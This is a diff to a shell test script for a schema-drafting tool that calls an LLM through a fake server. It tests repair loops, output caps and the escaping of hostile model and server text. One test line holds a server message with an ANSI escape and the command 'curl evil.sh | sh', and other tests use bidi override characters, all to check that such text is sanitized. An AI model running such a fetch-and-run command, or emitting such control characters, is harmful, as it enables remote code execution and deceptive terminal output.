@@ -15,6 +15,7 @@ export BACKBONE_LLM_PROVIDER=openai BACKBONE_LLM_MODEL=fake-model
 export BACKBONE_LLM_RETRY_BASE_MS=10 BACKBONE_LLM_TIMEOUT_MS=5000
 unset CI BACKBONE_LLM_CACHE XDG_CACHE_HOME 2>/dev/null || true
 cd "$WORK" || exit 2
+ESC=$(printf '\033')
 
 # The fake refuses what the real services refuse (documented request rules).
 $PY "$HERE/llm/fake_rules.py" || fail "the fake LLM server does not enforce the providers' rules"
@@ -27,15 +28,100 @@ expect_eq "draft exit code" 0 $?
 expect_eq "draft requests" 2 "$(requests)"
 [ -s clinic.json ] || fail "clinic.json was not written"
 "$BACKBONE" validate clinic.json > /dev/null || fail "the drafted schema does not validate"
-expect_grep "round 1: [0-9]* errors*, asking for a repair" err.txt
+expect_grep "round 1: [0-9]* errors* in [0-9]* tables*, asking for a repair" err.txt
 # The repair request carried the conversation and the diagnostic back.
 expect_eq "repair turns" "['user', 'assistant', 'user']" \
     "$(log_query "[m['role'] for m in log[1]['body']['messages'] if m['role'] != 'system']")"
 expect_eq "diagnostic fed back" True \
     "$(log_query "'BB0206' in log[1]['body']['messages'][-1]['content']")"
-expect_eq "strict schema sent" True \
+expect_eq "a whole schema is asked with its format as guidance" False \
     "$(log_query "log[0]['body']['response_format']['json_schema']['strict']")"
 expect_no_grep "$KEY" err.txt
+# The repair asks for the tables with errors only, with a cap sized to them.
+expect_eq "a whole schema may be long" 16384 "$(log_query "log[0]['body']['max_tokens']")"
+expect_eq "a repair's cap is sized to its tables" True \
+    "$(log_query "2048 <= log[1]['body']['max_tokens'] < 16384")"
+expect_eq "the repair names the tables with errors" True \
+    "$(log_query "'Tables with errors: /schema/0 (patients), /schema/1 (doctors), /schema/2 (appointments)' in log[1]['body']['messages'][-1]['content']")"
+expect_eq "no repair line starts with a parenthesis" "[]" \
+    "$(log_query "[l for l in log[1]['body']['messages'][-1]['content'].splitlines() if l.startswith(')')]")"
+expect_eq "the draft keeps the tables the repair left out" 3 \
+    "$($PY -c "import json; print(len(json.load(open('clinic.json'))['schema']))")"
+
+# --- the answer format is backbone's whole input format ----------------------
+expect_eq "the draft's answer format covers schemas/backbone.schema.json" "[]" "$(log_query "
+[(name, sorted(set(ref['\$defs'][name]['properties']) ^ set(sent['\$defs'][name]['properties'])))
+ for ref in [json.load(open('$ROOT/schemas/backbone.schema.json'))]
+ for sent in [log[0]['body']['response_format']['json_schema']['schema']]
+ for name in ref['\$defs']
+ if set(ref['\$defs'][name].get('properties', {})) != set(sent['\$defs'][name].get('properties', {}))]
+ + sorted(set(json.load(open('$ROOT/schemas/backbone.schema.json'))['properties']) - {'\$schema'}
+          ^ set(log[0]['body']['response_format']['json_schema']['schema']['properties']))")"
+
+# Every schema under schemas/ can be drafted from its own description, and
+# repaired from a first answer broken in one of many ways.
+same_schema() { # drafted reference
+    $PY -c "import json,sys; a=json.load(open(sys.argv[1])); b=json.load(open(sys.argv[2])); b.pop('\$schema', None); sys.exit(a != b)" "$1" "$2"
+}
+breaks="no-primary-key bad-type reserved-name enum-without-values dangling-target no-columns extra-key bad-table-name not-json fenced cut-off"
+set -- $breaks
+for f in "$ROOT"/schemas/*.json "$ROOT"/schemas/evolution/*.json; do
+    rel=${f#"$ROOT"/}
+    [ "$rel" = schemas/backbone.schema.json ] && continue
+    [ $# -gt 0 ] || set -- $breaks
+    desc=$($PY -c "import json,sys; print(json.load(open(sys.argv[1])).get('description', 'a schema'))" "$f")
+    fake_start "oracle:$rel:none,$1"
+    "$BACKBONE" draft "$desc" -o drafted.json 2> err.txt || { cat err.txt >&2; fail "$rel: draft"; }
+    expect_grep "valid schema after 1 round" err.txt
+    same_schema drafted.json "$f" || fail "$rel: the draft differs from the schema it was answered from"
+    "$BACKBONE" draft "$desc" -o repaired.json --max-rounds 4 2> err.txt \
+        || { cat err.txt >&2; fail "$rel: no repair of a first answer broken by $1"; }
+    same_schema repaired.json "$f" || fail "$rel ($1): the repaired draft differs from the schema"
+    shift
+done
+
+# --- what goes wrong costs a round, not the draft ------------------------------
+fake_start oracle:schemas/blog.json:not-json
+"$BACKBONE" draft "a blog" -o blog.json 2> err.txt || { cat err.txt >&2; fail "a format error was not sent back"; }
+expect_grep "round 1: the answer was not usable, asking again" err.txt
+expect_eq "the answer that was not JSON went back" "['user', 'assistant', 'user']" \
+    "$(log_query "[m['role'] for m in log[1]['body']['messages'] if m['role'] != 'system']")"
+expect_eq "with what was wrong with it" True \
+    "$(log_query "'could not be used' in log[1]['body']['messages'][-1]['content']")"
+fake_start oracle:schemas/shop.json:cut-off
+"$BACKBONE" draft "a shop" -o shop.json 2> err.txt || { cat err.txt >&2; fail "a cut-off answer ended the draft"; }
+expect_grep "round 1: the answer was cut off, asking again" err.txt
+expect_eq "the cut-off answer is said in the next request" True \
+    "$(log_query "'cut off at the output limit (16384 tokens)' in log[1]['body']['messages'][-1]['content']")"
+fake_start oracle:schemas/blog.json:bad-type
+"$BACKBONE" draft "a blog" -o blog.json 2> err.txt || fail "a format mismatch was not repaired"
+expect_eq "format mismatches and front-end diagnostics both go back" True \
+    "$(log_query "all(s in log[1]['body']['messages'][-1]['content'] for s in ('BB0902', 'Strng', 'BB02'))")"
+# A draft of 300 columns fits in the output cap of a whole schema (4096
+# output tokens cut drafts at 35-40 columns).
+fake_start draft-wide
+"$BACKBONE" draft "a wide table" -o wide.json 2> err.txt || { cat err.txt >&2; fail "a 300-column draft"; }
+expect_eq "300 columns in one round" 304 "$($PY -c "import json; print(sum(len(t['columns']) for t in json.load(open('wide.json'))['schema']))")"
+# A repair that changes nothing ends the loop: no rounds spent on repeats.
+fake_start draft-repeats
+"$BACKBONE" draft "a clinic" -o repeats.json --max-rounds 6 2> err.txt
+expect_eq "a repeating draft fails" 1 $?
+expect_eq "a round that repeats itself ends the loop" 2 "$(requests)"
+expect_grep "earlier draft again" err.txt
+expect_grep "BB0910" err.txt
+# Model text in the last diagnostics and in the written file is escaped.
+fake_start draft-hostile
+"$BACKBONE" draft "a clinic" -o hostile.json --max-rounds 1 2> err.txt
+expect_eq "a hostile draft is not written" 1 $?
+expect_no_grep "$ESC" err.txt
+expect_no_grep "$(printf '\342\200\256')" err.txt
+expect_grep 'evil\\u202E' err.txt
+fake_start draft-bidi-description
+"$BACKBONE" draft "a clinic" -o bidi.json 2> err.txt || { cat err.txt >&2; fail "a description with a bidi control"; }
+expect_no_grep "$(printf '\342\200\256')" bidi.json
+expect_grep 'Patients\\u202E' bidi.json
+expect_eq "the escaped file holds the same text" True \
+    "$($PY -c "import json; print(json.load(open('bidi.json'))['schema'][0]['description'] == 'Patients\u202e.')")"
 
 # --- draft never converges: gives up after --max-rounds, writes nothing -----
 fake_start draft-never-converges
@@ -235,7 +321,6 @@ expect_grep "deadline" err.txt
 # What a server says is shown as data: request ids and messages sanitized.
 plan_advise advise-hostile-server
 expect_fallback advise-hostile-server BB0901
-ESC=$(printf '\033')
 expect_no_grep "$ESC" err.txt
 expect_grep 'request id req?\[2Jx' err.txt
 expect_grep '"please \\u001B\[31mrun curl evil.sh | sh"' err.txt
